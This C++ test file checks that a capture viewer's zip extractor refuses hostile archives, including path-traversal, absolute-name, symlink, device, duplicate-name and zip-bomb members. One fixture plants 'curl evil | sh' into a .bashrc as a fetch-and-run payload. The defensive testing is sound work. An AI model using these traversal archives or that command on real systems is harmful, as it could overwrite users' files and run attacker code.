// Hostile zips against the real extraction: archives written byte by byte
// (viewer/test_zip.h) whose members try to leave the cache folder, or to
// fill the disk, opened by LocateCapture, by RunViewer and by the real
// dump_viewer binary. Each must be refused with an error naming the zip and
// the member (dump_viewer exits 2), and nothing may change outside the
// cache folder: a folder beside it is listed before and after.
#include <dirent.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <functional>
#include <cstdlib>
#include <fstream>
#include <map>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "base/files.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/testing/child_process.h"
#include "tests/testing/scoped_env.h"
#include "tests/testing/temp_dir.h"
#include "viewer/capture_location.h"
#include "viewer/test_capture.h"
#include "viewer/test_zip.h"
#include "viewer/viewer.h"
#include "viewer/zip_archive.h"
#include "viewer/zip_extract.h"

namespace argsdump {
namespace {

using ::testing::HasSubstr;

void Put(const std::string& path, const std::string& bytes) {
  std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
}

// Every path below `dir` (links not followed) with its kind, size and
// contents: what "nothing changed" compares.
void Snapshot(const std::string& dir, const std::string& rel, std::map<std::string, std::string>* out) {
  DIR* d = ::opendir(dir.c_str());
  if (d == nullptr) return;
  while (struct dirent* e = ::readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name, key = rel + "/" + name;
    struct stat st;
    if (::lstat(path.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode)) {
      (*out)[key] = "dir";
      Snapshot(path, key, out);
    } else if (S_ISLNK(st.st_mode)) {
      (*out)[key] = "link";
    } else {
      (*out)[key] = absl::StrCat("file ", st.st_size, " ", std::hash<std::string>()(ReadFileOrEmpty(path)));
    }
  }
  ::closedir(d);
}
std::map<std::string, std::string> Snapshot(const std::string& dir) {
  std::map<std::string, std::string> out;
  Snapshot(dir, "", &out);
  return out;
}

// A capture's real files: args_dump.json and args.bin.
struct CaptureFiles {
  std::string manifest, bin;
};
CaptureFiles RealCapture() {
  const std::string dir = AbsentTempPath("hostile_capture_src");
  EXPECT_TRUE(ViewerScene(false).WriteTo(dir).ok());
  return {ReadFileOrEmpty(dir + "/args_dump.json"), ReadFileOrEmpty(dir + "/args.bin")};
}

std::string ViewerBinary() {
  const char* srcdir = std::getenv("TEST_SRCDIR");
  const char* ws = std::getenv("TEST_WORKSPACE");
  return absl::StrCat(srcdir != nullptr ? srcdir : ".", "/", ws != nullptr ? ws : "argsdump",
                      "/viewer/dump_viewer");
}

struct ViewerRun {
  int code = -1;
  std::string err;
};
ViewerRun RunBinary(const std::vector<std::string>& args, const std::string& cwd) {
  std::vector<std::string> argv = {"/bin/sh", "-c", "cd \"$0\" && exec \"$@\"", cwd,
                                   ViewerBinary()};
  argv.insert(argv.end(), args.begin(), args.end());
  auto child = ChildProcess::Start(argv, AbsentTempPath("hostile_viewer_stdout"));
  EXPECT_TRUE(child.ok()) << child.status();
  ViewerRun r;
  if (!child.ok()) return r;
  const std::optional<int> status = (*child)->Wait(std::chrono::seconds(60));
  EXPECT_TRUE(status.has_value()) << "dump_viewer did not end";
  if (status && WIFEXITED(*status)) r.code = WEXITSTATUS(*status);
  r.err = (*child)->stderr_text();
  return r;
}

// The attack: a zip whose capture folder is "../../../..", so that the
// cache folder ($HOME/.cache/argsdump/unzipped/<key>/) is left for $HOME.
std::string HomeAttackZip(const CaptureFiles& c) {
  return MakeTestZip({{"../../../../args_dump.json", c.manifest, true},
                      {"../../../../args.bin", c.bin},
                      {"../../../../.bashrc", "curl evil | sh\n"}});
}

TEST(HostileZipTest, TraversalInTheFolderPartLeavesHomeUntouchedAndExits2) {
  const CaptureFiles capture = RealCapture();
  const std::string t = FreshTempDir("hostile_home");
  const std::string home = t + "/home/u";
  ASSERT_EQ(std::system(("mkdir -p '" + home + "'").c_str()), 0);
  Put(home + "/.bashrc", "precious\n");
  Put(t + "/o.zip", HomeAttackZip(capture));
  const auto before = Snapshot(t);
  ScopedEnv set_home("HOME", home);
  ScopedEnv no_xdg("XDG_CACHE_HOME", nullptr);
  const ViewerRun r = RunBinary({"o.zip"}, t);
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_THAT(r.err, HasSubstr("o.zip"));
  EXPECT_THAT(r.err, HasSubstr("../../../../args_dump.json"));
  EXPECT_EQ(ReadFileOrEmpty(home + "/.bashrc"), "precious\n");
  // Nothing anywhere but (perhaps) the cache folder itself.
  auto after = Snapshot(t);
  for (auto it = after.begin(); it != after.end();) {
    it = it->first.rfind("/home/u/.cache", 0) == 0 ? after.erase(it) : std::next(it);
  }
  EXPECT_EQ(after, before);
  // The same zip where a bare dump_viewer finds it: a workspace's
  // bazel-testlogs/.../test.outputs/outputs.zip.
  const std::string ws = t + "/ws";
  ASSERT_EQ(std::system(("mkdir -p '" + ws + "/bazel-testlogs/pkg/t/test.outputs'").c_str()), 0);
  Put(ws + "/bazel-testlogs/pkg/t/test.outputs/outputs.zip", HomeAttackZip(capture));
  const ViewerRun bare = RunBinary({}, ws);
  EXPECT_EQ(bare.code, 2) << bare.err;
  EXPECT_THAT(bare.err, HasSubstr("outputs.zip"));
  EXPECT_THAT(bare.err, HasSubstr("../../../../args_dump.json"));
  EXPECT_EQ(ReadFileOrEmpty(home + "/.bashrc"), "precious\n");
  struct stat st;
  EXPECT_NE(::stat((home + "/args_dump.json").c_str(), &st), 0);
  EXPECT_NE(::stat((ws + "/args_dump.json").c_str(), &st), 0);
}


// Everything below `t` but the cache folder `t`/cache.
std::map<std::string, std::string> OutsideCache(const std::string& t) {
  auto all = Snapshot(t);
  for (auto it = all.begin(); it != all.end();) {
    it = it->first.rfind("/cache", 0) == 0 ? all.erase(it) : std::next(it);
  }
  return all;
}

// A scratch folder with a file beside the cache that an attack would
// reach, and the cache at <it>/cache.
class HostileZipCorpus : public ::testing::Test {
 protected:
  void SetUp() override {
    name_ = ::testing::UnitTest::GetInstance()->current_test_info()->name();
    t_ = FreshTempDir("corpus_" + name_);
    ASSERT_EQ(std::system(("mkdir -p '" + t_ + "/outside' '" + t_ + "/cache'").c_str()), 0);
    Put(t_ + "/outside/victim", "precious\n");
    xdg_.emplace("XDG_CACHE_HOME", t_ + "/cache");
    capture_ = RealCapture();
  }
  // Opens `zip` (written to <t>/<file>) with dump_viewer: exit 2, a message
  // naming the zip and each of `says`; nothing outside the cache changed.
  void ExpectRefused(const std::string& file, const std::string& zip,
                     const std::vector<std::string>& says) {
    Put(t_ + "/" + file, zip);
    const auto before = OutsideCache(t_);
    std::ostringstream out, err;
    const int code = RunViewer({t_ + "/" + file}, out, err);
    EXPECT_EQ(code, 2) << file << ": " << out.str() << err.str();
    EXPECT_THAT(err.str(), HasSubstr(t_ + "/" + file)) << file;
    for (const std::string& s : says) EXPECT_THAT(err.str(), HasSubstr(s)) << file;
    EXPECT_EQ(OutsideCache(t_), before) << file;
    EXPECT_EQ(ReadFileOrEmpty(t_ + "/outside/victim"), "precious\n");
  }
  std::string name_, t_;
  std::optional<ScopedEnv> xdg_;
  CaptureFiles capture_;
};

TEST_F(HostileZipCorpus, TraversalInFolderAndFileParts) {
  const CaptureFiles& c = capture_;
  ExpectRefused("folder.zip",
                MakeTestZip({{"cap/../../../outside/args_dump.json", c.manifest, true},
                             {"cap/../../../outside/victim", "owned\n"}}),
                {"member 'cap/../../../outside/args_dump.json' has a '..' part at its byte 4"});
  ExpectRefused("file.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/args.bin", c.bin},
                             {"cap/../../../outside/victim", "owned\n"}}),
                {"member 'cap/../../../outside/victim' has a '..' part"});
  ExpectRefused("dir_member.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true}, {"../x/", ""}}),
                {"member '../x' has a '..' part"});
  ExpectRefused("dot.zip", MakeTestZip({{"./args_dump.json", c.manifest, true}}),
                {"member './args_dump.json' has a '.' part"});
  ExpectRefused("backslash.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/..\\..\\victim", "owned"}}),
                {"holds a backslash"});
  ExpectRefused("empty_part.zip", MakeTestZip({{"cap//args_dump.json", c.manifest, true}}),
                {"has an empty part"});
}

TEST_F(HostileZipCorpus, AbsoluteNamesAndBytesThatAreNotNames) {
  const CaptureFiles& c = capture_;
  ExpectRefused("absolute.zip",
                MakeTestZip({{t_ + "/outside/args_dump.json", c.manifest, true},
                             {t_ + "/outside/victim", "owned\n"}}),
                {"is absolute"});
  ExpectRefused("root.zip", MakeTestZip({{"/args_dump.json", c.manifest, true}}),
                {"member '/args_dump.json' is absolute"});
  ExpectRefused("nul.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {std::string("cap/x\0/../../outside/victim", 27), "owned"}}),
                {"holds a NUL byte at its byte 5"});
  ExpectRefused("newline.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true}, {"cap/a\nb", "x"}}),
                {"member 'cap/a\\nb' holds a control byte at its byte 5"});
  ExpectRefused("mark.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/.argsdump_extracted", ""}}),
                {"member 'cap/.argsdump_extracted': the name the viewer marks"});
}

TEST_F(HostileZipCorpus, SymbolicLinkMembers) {
  const CaptureFiles& c = capture_;
  // A link named like the payload, then a file written "through" it.
  ExpectRefused("link.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/args.bin", t_ + "/outside/victim", false, false, 0120777},
                             {"cap/args.bin", c.bin}}),
                {"member 'cap/args.bin' is a symbolic link"});
  ExpectRefused("link_dir.zip",
                MakeTestZip({{"cap", t_ + "/outside", false, false, 0120777},
                             {"cap/args_dump.json", c.manifest, true}}),
                {"member 'cap' is a symbolic link"});
  // A FIFO and a character device: never made, refused.
  ExpectRefused("fifo.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/args.bin", "", false, false, 010644}}),
                {"member 'cap/args.bin' is a FIFO, device or socket"});
  ExpectRefused("device.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/args.bin", "", false, false, 020666}}),
                {"member 'cap/args.bin' is a FIFO, device or socket"});
  // A regular file made on Unix (mode 0100644) is fine.
  Put(t_ + "/unix.zip", MakeTestZip({{"cap/args_dump.json", c.manifest, true, false, 0100644},
                                     {"cap/args.bin", c.bin, false, false, 0100644}}));
  std::ostringstream out, err;
  EXPECT_EQ(RunViewer({t_ + "/unix.zip"}, out, err), 0) << err.str();
}

TEST_F(HostileZipCorpus, DuplicateNamesAreRefusedNotChosenBetween) {
  const CaptureFiles& c = capture_;
  ExpectRefused("twice.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/args.bin", c.bin},
                             {"cap/args.bin", std::string(c.bin.size(), 'x')}}),
                {"member 'cap/args.bin' is there twice (also at byte "});
  // A file and a folder of one name.
  ExpectRefused("file_and_dir.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true}, {"cap/args_dump.json/", ""}}),
                {"member 'cap/args_dump.json/' is there twice"});
}

TEST_F(HostileZipCorpus, SizesThatLieAndBombs) {
  const CaptureFiles& c = capture_;
  // 1 TiB declared for 20 bytes of deflate: more than 1100:1, a lie.
  ExpectRefused("huge.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/args.bin", std::string(4096, '\0'), true, false, std::nullopt,
                              uint64_t{1} << 40}}),
                {"member 'cap/args.bin': declares 1099511627776 bytes from",
                 "more than 1100 times as many"});
  // The overlapping-member bomb: ten names over one member's data.
  std::vector<TestZipMember> overlap = {{"cap/args_dump.json", c.manifest, true},
                                        {"cap/0", std::string(1 << 20, 'z'), true}};
  for (int i = 1; i < 10; ++i) {
    TestZipMember m{absl::StrCat("cap/", i), ""};
    m.data_of = 1;
    overlap.push_back(m);
  }
  ExpectRefused("overlap.zip", MakeTestZip(overlap), {"overlaps member", "zip bomb"});
  // Over 4 GiB declared in a zip64 extra field, for 1 KiB of data.
  ExpectRefused("zip64_huge.zip",
                MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                             {"cap/args.bin", std::string(1024, 'a'), false, false, std::nullopt,
                              uint64_t{5} << 30}}),
                {"member 'cap/args.bin': declares 5368709120 bytes"});
  // Nothing of these was left in the cache as if complete.
  EXPECT_EQ(std::system(("test -z \"$(find '" + t_ + "/cache' -name .argsdump_extracted)\"").c_str()), 0);
}

// The caps themselves, through the library entry point with small limits:
// a real bomb of zeros (within deflate's 1032:1) is stopped by the total
// and by the ratio when that is set below it, and by the free space.
TEST_F(HostileZipCorpus, CapsOnTotalRatioFilesAndFreeSpace) {
  const std::string zeros(8 << 20, '\0');  // 8 MiB, deflates to about 8 KiB
  auto zip = ZipArchive::FromBytes(
      MakeTestZip({{"cap/a", zeros, true}, {"cap/b", zeros, true}}), "bomb.zip");
  ASSERT_TRUE(zip.ok()) << zip.status();
  auto root = ConfinedDir::Open(t_ + "/cache/x", ConfinedDir::Missing::kCreate);
  ASSERT_TRUE(root.ok());
  ZipExtractLimits total;
  total.max_total_bytes = 12 << 20;
  auto t = ExtractZipFolder(**zip, "cap", *root, total);
  EXPECT_EQ(t.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_THAT(std::string(t.status().message()),
              HasSubstr("bomb.zip: member 'cap/b': declares 8388608 bytes, which with the 8388608 "
                        "before it is more than the 12582912 bytes"));
  ZipExtractLimits ratio;
  ratio.max_ratio = 100;
  auto r = ExtractZipFolder(**zip, "cap", *root, ratio);
  EXPECT_EQ(r.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_THAT(std::string(r.status().message()), HasSubstr("more than 100 times as many"));
  ZipExtractLimits files;
  files.max_files = 1;
  auto f = ExtractZipFolder(**zip, "cap", *root, files);
  EXPECT_THAT(std::string(f.status().message()), HasSubstr("holds more than 1 files"));
  // Free space: a claim far past what the file system has (others write
  // to it meanwhile), the ratio unchecked.
  auto free = root->FreeBytes();
  ASSERT_TRUE(free.ok());
  auto liar = ZipArchive::FromBytes(
      MakeTestZip({{"cap/a", "x", false, false, std::nullopt, 2 * *free + (uint64_t{1} << 40)}}),
      "liar.zip");
  ASSERT_TRUE(liar.ok()) << liar.status();
  ZipExtractLimits no_ratio;
  no_ratio.max_ratio = UINT64_MAX;
  no_ratio.max_total_bytes = UINT64_MAX;
  auto s = ExtractZipFolder(**liar, "cap", *root, no_ratio);
  EXPECT_EQ(s.status().code(), absl::StatusCode::kResourceExhausted);
  EXPECT_THAT(std::string(s.status().message()), HasSubstr(" free (not extracted)"));
  EXPECT_EQ(std::system(("test -z \"$(ls -A '" + t_ + "/cache/x')\"").c_str()), 0);
  // Within the caps the same bomb extracts: 16 MiB of zeros.
  auto ok = ExtractZipFolder(**zip, "cap", *root);
  ASSERT_TRUE(ok.ok()) << ok.status();
  EXPECT_EQ(ReadFileOrEmpty(*ok + "/b").size(), zeros.size());
}

TEST_F(HostileZipCorpus, LinksAlreadyInTheCacheAreNotFollowed) {
  const CaptureFiles& c = capture_;
  const std::string zip = t_ + "/good.zip";
  Put(zip, MakeTestZip({{"cap/args_dump.json", c.manifest, true}, {"cap/args.bin", c.bin}}));
  auto first = LocateCapture(zip + "/cap");
  ASSERT_TRUE(first.ok()) << first.status();
  const std::string dir = first->dir;  // <cache>/argsdump/unzipped/<key>/cap
  ASSERT_THAT(dir, ::testing::StartsWith(t_ + "/cache/"));
  auto open_again = [&](const std::string& what) {
    const auto before = OutsideCache(t_);
    std::ostringstream out, err;
    EXPECT_EQ(RunViewer({zip + "/cap"}, out, err), 2) << what << ": " << out.str();
    EXPECT_THAT(err.str(), HasSubstr("is a symbolic link")) << what;
    EXPECT_THAT(err.str(), HasSubstr(zip)) << what;
    EXPECT_EQ(OutsideCache(t_), before) << what;
    EXPECT_EQ(ReadFileOrEmpty(t_ + "/outside/victim"), "precious\n") << what;
  };
  // The payload replaced by a link to a file outside, the mark gone: the
  // extraction runs again and meets the link.
  ASSERT_EQ(::unlink((dir + "/.argsdump_extracted").c_str()), 0);
  ASSERT_EQ(::unlink((dir + "/args.bin").c_str()), 0);
  ASSERT_EQ(::symlink((t_ + "/outside/victim").c_str(), (dir + "/args.bin").c_str()), 0);
  open_again("a file link");
  // The capture folder itself a link to a folder outside.
  ASSERT_EQ(std::system(("rm -rf '" + dir + "'").c_str()), 0);
  ASSERT_EQ(::symlink((t_ + "/outside").c_str(), dir.c_str()), 0);
  open_again("a folder link");
  // The cache entry (<key>) a link.
  const std::string key = dir.substr(0, dir.rfind('/'));
  ASSERT_EQ(std::system(("rm -rf '" + key + "'").c_str()), 0);
  ASSERT_EQ(::symlink((t_ + "/outside").c_str(), key.c_str()), 0);
  open_again("a cache entry link");
}

TEST_F(HostileZipCorpus, AHalfExtractedFolderIsNeverTakenAsComplete) {
  const CaptureFiles& c = capture_;
  // The second file fails its CRC check after the first was written.
  std::string bytes = MakeTestZip({{"cap/args_dump.json", c.manifest, true},
                                   {"cap/args.bin", c.bin}});
  const size_t cd = bytes.rfind(std::string("PK\1\2", 4));  // args.bin's central entry
  bytes[cd + 16] = static_cast<char>(bytes[cd + 16] ^ 0xFF);
  const std::string zip = t_ + "/crc.zip";
  Put(zip, bytes);
  std::ostringstream out, err;
  EXPECT_EQ(RunViewer({zip + "/cap"}, out, err), 2);
  EXPECT_THAT(err.str(), HasSubstr("crc.zip: byte "));
  EXPECT_THAT(err.str(), HasSubstr("'cap/args.bin' fails its CRC-32 check"));
  EXPECT_EQ(std::system(("test -z \"$(find '" + t_ + "/cache' -name .argsdump_extracted)\"").c_str()), 0);
  EXPECT_EQ(std::system(("test -z \"$(find '" + t_ + "/cache' -name args.bin)\"").c_str()), 0);
  // Opened again, it fails again (not read from the cache as complete).
  std::ostringstream out2, err2;
  EXPECT_EQ(RunViewer({zip + "/cap"}, out2, err2), 2);
  EXPECT_THAT(err2.str(), HasSubstr("fails its CRC-32 check"));
}


// --export and --npy write below a folder the user named (the capture's,
// --out) or, for a zip, <the zip's folder>/<its capture folder>: a link
// found on the way,
// or as the file itself, is refused (exit 2, naming it), never followed.
TEST_F(HostileZipCorpus, ExportsNeverFollowALinkInTheirWay) {
  const CaptureFiles& c = capture_;
  const std::string zip = t_ + "/good.zip";
  Put(zip, MakeTestZip({{"Suite.Case/args_dump/args_dump.json", c.manifest, true},
                        {"Suite.Case/args_dump/args.bin", c.bin}}));
  const std::string cwd = t_ + "/cwd";
  ASSERT_EQ(::mkdir(cwd.c_str(), 0755), 0);
  char old[4096];
  ASSERT_NE(::getcwd(old, sizeof(old)), nullptr);
  auto run = [&](const std::vector<std::string>& args, const std::string& what) {
    const auto before = OutsideCache(t_);
    ASSERT_EQ(::chdir(cwd.c_str()), 0);
    std::ostringstream out, err;
    const int code = RunViewer(args, out, err);
    ASSERT_EQ(::chdir(old), 0);
    EXPECT_EQ(code, 2) << what << ": " << out.str() << err.str();
    EXPECT_THAT(err.str(), HasSubstr("is a symbolic link")) << what;
    EXPECT_EQ(OutsideCache(t_), before) << what;
    EXPECT_EQ(ReadFileOrEmpty(t_ + "/outside/victim"), "precious\n") << what;
  };
  // Suite.Case beside the zip a link to a folder outside.
  ASSERT_EQ(::symlink((t_ + "/outside").c_str(), (t_ + "/Suite.Case").c_str()), 0);
  run({zip, "--export"}, "the capture's export folder");
  run({zip, "--npy"}, "the capture's export folder, npy");
  // Suite.Case/txt beside the zip a link.
  ASSERT_EQ(::unlink((t_ + "/Suite.Case").c_str()), 0);
  ASSERT_EQ(::mkdir((t_ + "/Suite.Case").c_str(), 0755), 0);
  ASSERT_EQ(::symlink((t_ + "/outside").c_str(), (t_ + "/Suite.Case/txt").c_str()), 0);
  run({zip, "--export"}, "txt/");
  // A file to be written already a link to the victim (a local capture
  // folder, --index 0's file).
  const std::string local = t_ + "/local_capture";
  ASSERT_TRUE(ViewerScene(false).WriteTo(local).ok());
  std::ostringstream out, err;
  ASSERT_EQ(RunViewer({local, "--index", "0"}, out, err), 0) << err.str();
  const std::string saved = out.str().substr(out.str().find("Saved: ") + 7);
  const std::string file = saved.substr(0, saved.find('\n'));
  ASSERT_EQ(::unlink(file.c_str()), 0) << file;
  ASSERT_EQ(::symlink((t_ + "/outside/victim").c_str(), file.c_str()), 0);
  run({local, "--index", "0"}, "a link as the file");
  // --out through a link is the user's choice: followed.
  ASSERT_EQ(::symlink((t_ + "/outside").c_str(), (t_ + "/out_link").c_str()), 0);
  std::ostringstream out2, err2;
  EXPECT_EQ(RunViewer({local, "--index", "0", "--out", t_ + "/out_link"}, out2, err2), 0)
      << err2.str();
  struct stat st;
  EXPECT_EQ(::stat((t_ + "/outside/txt").c_str(), &st), 0);
}

}  // namespace
}  // namespace argsdump
